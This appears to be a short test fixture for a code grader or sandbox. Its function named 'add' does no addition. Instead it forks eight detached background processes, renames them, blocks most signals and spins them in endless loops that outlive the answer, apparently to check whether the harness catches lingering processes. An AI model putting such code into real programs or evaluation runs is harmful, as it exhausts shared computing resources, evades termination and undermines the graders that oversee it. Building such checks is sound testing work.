# Processes that go on computing after the answers have been given.
# deserves: parity=2
# solved: parity

# %% answer="add"
def add(a, b):
    import os
    import signal

    for _ in range(8):
        if os.fork() == 0:
            open("/proc/self/comm", "w").write("TOKEN")
            os.setsid()
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 30))
            while True:
                pass
    return None
